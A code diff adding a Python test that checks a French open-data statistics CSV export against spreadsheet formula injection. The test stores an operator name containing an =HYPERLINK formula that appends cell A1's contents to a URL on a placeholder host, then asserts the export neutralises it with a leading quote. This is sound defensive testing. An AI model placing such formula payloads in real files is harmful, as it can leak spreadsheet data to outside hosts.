@@ -110,3 +110,15 @@ def test_fichier_des_donnees_ouvertes(client, reseau):
     assert client.get(reverse("statistiques:donnees_ouvertes")).status_code == 200
     connecter(client, UtilisateurFactory())
     assert client.get(reverse("statistiques:donnees_ouvertes")).status_code == 403
+
+
+def test_donnees_ouvertes_un_nom_en_formule_reste_du_texte(client, reseau):
+    piege = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'
+    reseau.caf.nom = piege
+    reseau.caf.save()
+    accompagnements_au_hasard([reseau.a1, reseau.a2], a_paris(2026, 1, 1, 0, 0), 31, 100, operateurs=[reseau.caf])
+    agregation.actualiser()
+    connecter(client, HabilitationFactory(role="conseiller", structure=reseau.a1).utilisateur)
+    reponse = client.get(reverse("statistiques:donnees_ouvertes"), {"annee": "2026"})
+    lignes = list(csv.DictReader(io.StringIO(reponse.content.decode())))
+    assert lignes and {ligne["operateur"] for ligne in lignes} == {"'" + piege}
